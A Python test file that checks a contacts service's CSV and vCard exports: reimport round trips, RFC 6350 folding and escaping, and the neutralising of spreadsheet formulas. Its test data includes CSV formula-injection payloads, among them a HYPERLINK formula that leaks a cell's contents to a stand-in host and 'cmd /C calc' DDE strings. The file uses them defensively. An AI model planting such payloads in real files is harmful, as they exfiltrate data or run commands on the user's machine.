"""Exports: the CSV of a filtered list imports back cleanly; vCards 4.0 are strict."""

from __future__ import annotations

import csv
import io
import re
import uuid
from datetime import UTC, datetime
from typing import Any

import pytest
import vobject
from flask import Flask
from flask.testing import FlaskClient
from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy import text as sql

from services.contacts.csvfiles import escape_formula, join_list, split_list, unescape_formula
from services.contacts.services import exports
from shared.db import get_database

from .conftest import Maker, role, suffix
from .test_import import _commit, _tagged, _upload


def _strict_vcard_lines(content: bytes | str) -> str:
    """What strict parsers insist on (RFC 6350 3.2): CRLF, lines of at most 75 octets,
    each valid UTF-8 by itself (no character split by a fold), continuations starting with
    a space, VERSION right after BEGIN, no control character but the tab, URIs in ASCII
    (RFC 3986). Returns the unfolded text."""
    data = content if isinstance(content, bytes) else content.encode("utf-8")
    assert data.endswith(b"\r\n")
    assert b"\n" not in data.replace(b"\r\n", b"") and b"\r" not in data.replace(b"\r\n", b"")
    lines = data.split(b"\r\n")[:-1]
    assert all(len(line) <= 75 for line in lines), [line for line in lines if len(line) > 75]
    text_lines = [line.decode("utf-8") for line in lines]  # raises on a split character
    assert not any(re.search(r"[\x00-\x08\x0a-\x1f\x7f]", line) for line in text_lines)
    for index, line in enumerate(text_lines):
        if line == "BEGIN:VCARD":
            assert text_lines[index + 1] == "VERSION:4.0"
    unfolded = data.decode("utf-8").replace("\r\n ", "")
    assert all(
        line.isascii() for line in unfolded.split("\r\n") if re.match(r"(\w+\.)?URL[;:]", line)
    )
    return unfolded


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (
            '=HYPERLINK("http://x.example?leak="&A1,"Details")',
            '\'=HYPERLINK("http://x.example?leak="&A1,"Details")',
        ),
        ("=1+1", "'=1+1"),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("+Bäckerei", "'+Bäckerei"),
        ("\tEingerückt", "'\tEingerückt"),
        ("\r=1", "'\r=1"),
        # Numbers and phone numbers stay as they are.
        ("+49 381 123456", "+49 381 123456"),
        ("-12.5", "-12.5"),
        ("-", "-"),
        ("+49 (0)381 / 12-34", "+49 (0)381 / 12-34"),
        # An apostrophe of the value's own before such a character is kept by one more.
        ("'=schon", "''=schon"),
        ("'+49 381", "''+49 381"),
        ("''-x", "'''-x"),
        # Nothing else is touched.
        ("Bäckerei = Brot", "Bäckerei = Brot"),
        ("'s Backstübchen", "'s Backstübchen"),
        ("info@example.org", "info@example.org"),
        ("", ""),
    ],
)
def test_formulas_are_escaped_and_the_escape_undone(value: str, cell: str) -> None:
    assert escape_formula(value) == cell
    assert unescape_formula(cell) == value


@given(st.text())
def test_every_value_comes_back_through_the_escape(value: str) -> None:
    cell = escape_formula(value)
    assert unescape_formula(cell) == value
    assert not cell[:1] or cell[0] not in "=+-@\t\r" or re.fullmatch(r"[0-9 +\-()/.,]*", cell)


@given(
    st.lists(
        st.text(min_size=1).filter(lambda item: item == item.strip() and "\x00" not in item),
        min_size=1,
    )
)
def test_every_list_comes_back_through_its_cell(items: list[str]) -> None:
    assert split_list(unescape_formula(escape_formula(join_list(items)))) == items


def test_list_cells_of_ours_and_of_other_programs() -> None:
    assert join_list(["Handel, Gewerbe", "Bau"]) == "Handel, Gewerbe; Bau"
    assert join_list(["Handel, Gewerbe"]) == '"Handel, Gewerbe"'
    assert join_list(["Bau; Ausbau", "x"]) == '"Bau; Ausbau"; x'
    assert split_list("Handel, Gewerbe; Bau") == ["Handel, Gewerbe", "Bau"]
    assert split_list('"Handel, Gewerbe"') == ["Handel, Gewerbe"]
    assert split_list("Kunden;Lieferanten") == ["Kunden", "Lieferanten"]  # Outlook
    assert split_list("Kunden, Lieferanten,") == ["Kunden", "Lieferanten"]  # elsewhere


def _imported_elsewhere_unchanged(
    client: FlaskClient, headers: dict[str, str], text: str, tag: str, listed: str = ""
) -> None:
    """The export of the organisations tagged ``listed`` (or ``tag``) imported as new ones,
    without its ids and ``tag`` renamed: every field of every copy is the original's."""
    other = f"exp{suffix()}"
    listed = listed or tag
    copy = text.replace(tag, other).encode("utf-8-sig")
    fresh = _upload(client, headers, copy, mapping={"id": None}).get_json()
    originals = {o["name"].replace(tag, other): o for o in _tagged(client, headers, listed)}
    assert fresh["created_count"] == len(originals), fresh
    _commit(client, headers, fresh["id"])
    copies = {o["name"]: o for o in _tagged(client, headers, listed.replace(tag, other))}
    assert originals.keys() == copies.keys()
    ignore = {"id", "created_at", "updated_at", "people", "version"}
    for name, original in originals.items():
        expected: dict[str, Any] = {
            key: (value.replace(tag, other) if isinstance(value, str) else value)
            for key, value in original.items()
            if key not in ignore
        }
        expected["tags"] = [t.replace(tag, other) for t in original["tags"]]
        assert {k: v for k, v in copies[name].items() if k not in ignore} == expected


def test_csv_export_of_a_filtered_list_reimports_cleanly(
    contacts_client: FlaskClient, coordinator: dict[str, str], make_org: Maker
) -> None:
    tag = f"exp{suffix()}"
    make_org(
        name=f"Friseur Öztürk {tag}",
        street="Stockholmer Straße",
        house_number="4",
        postcode="18107",
        city="Rostock",
        district="Lütten Klein",
        email=f"salon-{tag}@example.org",
        phone="0381 7654",
        needs=["online-marketing", "nachfolge"],
        tags=[tag, "Handwerk"],
        notes='Zeile eins\nZeile zwei; mit "Anführung"',
        latitude=54.1234,
        longitude=12.0678,
        employees=3,
        legal_form="e.K.",
        sector="Friseurhandwerk",
        wz_code="96.02",
        website="https://oeztuerk.example",
    )
    make_org(name=f"Hausverwaltung Nord {tag}", kind="landlord", tags=[tag])
    make_org(name=f"Andere {tag}", tags=["anders"])  # filtered out

    export = contacts_client.get(
        f"/api/v1/organisations/export.csv?tags={tag}&sort=name", headers=coordinator
    )
    assert export.status_code == 200 and export.mimetype == "text/csv"
    content = export.get_data()
    assert content.startswith(b"\xef\xbb\xbf")
    text = content.decode("utf-8-sig")
    assert text.splitlines()[0].startswith("id;kind;name;legal_form;")
    assert len([line for line in text.split("\r\n") if line]) == 3  # a note keeps its "\n"

    # The same file back: all valid, nothing new, nothing changed.
    again = _upload(contacts_client, coordinator, content).get_json()
    assert (again["valid_rows"], again["invalid_rows"]) == (2, 0), again["errors"]
    # Both rows match (the preview counts them as to be updated or as skipped).
    assert again["created_count"] == 0
    assert again["updated_count"] + again["skipped_count"] == 2
    done = _commit(contacts_client, coordinator, again["id"]).get_json()
    assert (done["created_count"], done["updated_count"], done["skipped_count"]) == (0, 0, 2)

    # As another office would import it: every field arrives unchanged.
    _imported_elsewhere_unchanged(contacts_client, coordinator, text, tag)


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))


def test_csv_export_defuses_formulas_and_reimports_exactly(
    contacts_client: FlaskClient, coordinator: dict[str, str], make_org: Maker
) -> None:
    tag = f"exp{suffix()}"
    group = f"Handel, Gewerbe {tag}"  # a tag with a comma
    make_org(
        name=f'=HYPERLINK("https://x.example/?q="&A1;"Öffnen") {tag}',
        legal_form="@GbR",
        sector="-2+3+cmd|' /C calc'!A0",
        street="Warnowallee 20b",  # the number in the street, none of its own
        postcode="18107",
        city="'+Groß Klein",
        email=f"kiosk-{tag}@example.org",
        phone="+49 381 123456",
        latitude=-12.5,
        longitude=-0.25,
        tags=[group],  # alone in its cell
        notes="\tEingerückt: Zeile eins\r\nZeile zwei\rdrei\x07\x1b[31m\x0b\x0c\x1f Ende",
    )
    make_org(
        name=f"Bäckerei Größe & Söhne {tag}",
        street="Groß Kleiner Weg",
        house_number="4a",
        city="Rostock",
        sector="-",
        tags=[group, "Bau; Ausbau", '"Zitat" am Anfang', "=SUMME(1)", "'@schon"],
        notes='=1+1 und ein Semikolon; ein Komma, ein "Zitat"',
    )

    export = contacts_client.get(
        "/api/v1/organisations/export.csv",
        query_string={"tags": group},
        headers=coordinator,
    )
    content = export.get_data()
    text = content.decode("utf-8-sig")
    rows = _cells(text)
    assert len(rows) == 3
    for row in rows:  # no cell a spreadsheet would run
        for cell in row:
            assert not cell[:1] or cell[0] not in "=+-@\t\r" or re.fullmatch(r"[0-9 +\-.]*", cell)
    [kiosk] = [dict(zip(rows[0], row, strict=True)) for row in rows if "HYPERLINK" in row[2]]
    assert kiosk["name"].startswith("'=HYPERLINK(")
    assert (kiosk["phone"], kiosk["latitude"], kiosk["city"]) == (
        "+49 381 123456",
        "-12.5",
        "''+Groß Klein",
    )
    assert (kiosk["street"], kiosk["house_number"], kiosk["tags"]) == (
        "Warnowallee 20b",
        "",
        f'"{group}"',
    )

    # The same file back: nothing new, every row matched, and none of them changed.
    again = _upload(contacts_client, coordinator, content).get_json()
    assert (again["valid_rows"], again["invalid_rows"]) == (2, 0), again["errors"]
    assert again["created_count"] == 0
    assert again["updated_count"] + again["skipped_count"] == 2
    done = _commit(contacts_client, coordinator, again["id"]).get_json()
    assert (done["created_count"], done["updated_count"], done["skipped_count"]) == (0, 0, 2)

    # As another office would import it: every value arrives exactly.
    _imported_elsewhere_unchanged(contacts_client, coordinator, text, tag, listed=group)


def test_vcard_for_one_organisation_and_a_person(
    contacts_client: FlaskClient, coordinator: dict[str, str], make_org: Maker, make_person: Maker
) -> None:
    org = make_org(
        name="Bäckerei Groß & Söhne; Filiale Groß Klein, am Markt, mit einem sehr langen Namen",
        street="Gerüstbauerring",
        house_number="12a",
        postcode="18109",
        city="Rostock",
        email="baeckerei@example.org",
        phone="+49 381 123",
        website="https://example.org/bäckerei",
        tags=["Frühstück"],
        notes="Öffnungszeiten: Mo–Fr\n6–18 Uhr",
    )
    response = contacts_client.get(f"/api/v1/organisations/{org['id']}/vcard", headers=coordinator)
    assert response.status_code == 200 and response.mimetype == "text/vcard"
    text = response.get_data().decode("utf-8")
    _strict_vcard_lines(text)
    card = vobject.readOne(text)
    assert card.version.value == "4.0"
    assert card.kind.value == "org"
    assert card.fn.value == org["name"]
    assert card.org.value == [org["name"]]
    assert card.adr.value.street == "Gerüstbauerring 12a"
    assert card.note.value == "Öffnungszeiten: Mo–Fr\n6–18 Uhr"
    assert card.uid.value == f"urn:uuid:{org['id']}"
    assert "\r\nURL:https://example.org/b%C3%A4ckerei\r\n" in text.replace("\r\n ", "")

    person = make_person(
        first_name="Jürgen",
        last_name="Weiß",
        email="juergen@example.org",
        roles=[role(org, "owner")],
    )
    text = contacts_client.get(
        f"/api/v1/people/{person['id']}/vcard", headers=coordinator
    ).get_data(as_text=True)
    _strict_vcard_lines(text)
    card = vobject.readOne(text)
    assert (card.n.value.family, card.n.value.given) == ("Weiß", "Jürgen")
    assert card.fn.value == "Jürgen Weiß"
    assert card.title.value == "Inhaber:in"
    assert card.org.group == card.title.group == "role1"
    # A person with roles at several organisations: each an ORG with its TITLE, grouped.
    landlord = make_org(name="Wohnen am Strom eG", kind="housing_company")
    contacts_client.patch(
        f"/api/v1/people/{person['id']}",
        json={
            "roles": [
                {"organisation_id": org["id"], "role": "owner"},
                {"organisation_id": landlord["id"], "role": "property_manager"},
            ]
        },
        headers=coordinator,
    )
    text = contacts_client.get(
        f"/api/v1/people/{person['id']}/vcard", headers=coordinator
    ).get_data(as_text=True)
    _strict_vcard_lines(text)
    card = vobject.readOne(text)
    titles = {
        org_line.value[0]: title.value
        for org_line in card.contents["org"]
        for title in card.contents["title"]
        if org_line.group == title.group
    }
    assert titles == {org["name"]: "Inhaber:in", "Wohnen am Strom eG": "Hausverwaltung"}
    assert [line.params.get("PREF") for line in card.contents["org"]].count(["1"]) == 1
    listed = contacts_client.get(
        f"/api/v1/people/export.vcf?organisation_id={org['id']}", headers=coordinator
    ).get_data(as_text=True)
    assert [c.fn.value for c in vobject.readComponents(io.StringIO(listed))] == ["Jürgen Weiß"]
    assert (
        contacts_client.get(
            f"/api/v1/organisations/{person['id']}/vcard", headers=coordinator
        ).status_code
        == 404
    )


def test_vcards_for_a_filtered_set(
    contacts_client: FlaskClient, coordinator: dict[str, str], make_org: Maker
) -> None:
    tag = f"vcf{suffix()}"
    names = sorted(f"Laden {n} Müritz {tag}" for n in ("Ä", "Ö", "Ü"))
    for name in names:
        make_org(name=name, tags=[tag], district="Schmarl")
    make_org(name=f"Fremd {tag}", tags=[tag], district="Südstadt")
    response = contacts_client.get(
        f"/api/v1/organisations/export.vcf?tags={tag}&district=Schmarl", headers=coordinator
    )
    text = response.get_data(as_text=True)
    _strict_vcard_lines(text)
    cards = list(vobject.readComponents(io.StringIO(text)))
    assert [card.fn.value for card in cards] == names


def test_vcards_fold_by_octets_and_keep_uris_and_values_exact(
    contacts_client: FlaskClient, coordinator: dict[str, str], make_org: Maker, make_person: Maker
) -> None:
    tag = f"vcf{suffix()}"
    long_name = "Blumenhaus Jördis Weiß — Floristik & Gärtnerei am Warnowufer in Groß Klein"
    # Under 75 characters, over 75 octets: the line a character count leaves unfolded.
    short_name = "Blumenhaus Jördis Weiß — Floristik & Gärtnerei — Sträuße für Groß Klein"
    assert len(f"FN:{short_name}") < 75 < len(f"FN:{short_name}".encode())
    url = "https://example.org/seite;jsessionid=1?a=1,2"
    first = make_org(
        name=long_name,
        street="Warnowallee 20b",
        postcode="18107",
        city="Rostock",
        website=url,
        tags=[tag, "Handel, Gewerbe"],
        notes="Zeile eins\r\nZeile\tzwei\x07\x1b mit \\ und ; und ,",
    )
    make_org(name=short_name, tags=[tag])
    response = contacts_client.get(
        "/api/v1/organisations/export.vcf", query_string={"tags": tag}, headers=coordinator
    )
    unfolded = _strict_vcard_lines(response.get_data())
    cards = {
        card.fn.value: card for card in vobject.readComponents(response.get_data(as_text=True))
    }
    assert cards.keys() == {long_name, short_name}
    card = cards[long_name]
    assert card.org.value == [long_name]
    assert card.note.value == "Zeile eins\nZeile\tzwei mit \\ und ; und ,"
    assert card.categories.value == [tag, "Handel, Gewerbe"]
    assert card.uid.value == f"urn:uuid:{first['id']}"
    # URI values are not escaped as text (RFC 6350 3.4, 6.7.8).
    assert f"\r\nURL:{url}\r\n" in unfolded
    # Structured values: ADR has seven components, N five.
    assert "\r\nADR;TYPE=work:;;Warnowallee 20b;Rostock;;18107;Deutschland\r\n" in unfolded
    assert "\r\nNOTE:Zeile eins\\nZeile\tzwei mit \\\\ und \\; und \\,\r\n" in unfolded

    person = make_person(
        first_name="Jördis",
        last_name="Weiß, geb. Groß",
        roles=[role(first, "owner")],
    )
    content = contacts_client.get(f"/api/v1/people/{person['id']}/vcard", headers=coordinator)
    unfolded = _strict_vcard_lines(content.get_data())
    assert "\r\nN:Weiß\\, geb. Groß;Jördis;;;\r\n" in unfolded
    card = vobject.readOne(content.get_data(as_text=True))
    assert (card.n.value.family, card.n.value.given) == ("Weiß, geb. Groß", "Jördis")
    assert card.org.value == [long_name]


def test_vcard_rev_is_in_utc_whatever_the_session_time_zone(
    contacts_app: Flask, make_org: Maker
) -> None:
    org = make_org(name=f"Uhrmacher {suffix()}")
    with get_database(contacts_app).session() as session:
        session.execute(sql("SET LOCAL TIME ZONE 'Europe/Berlin'"))
        card = vobject.readOne(exports.organisation_vcard(session, uuid.UUID(org["id"])))
    updated = datetime.fromisoformat(org["updated_at"])
    assert updated.utcoffset()  # the API shows Berlin time: the test compares instants
    assert card.rev.value == updated.astimezone(UTC).strftime("%Y%m%dT%H%M%SZ")
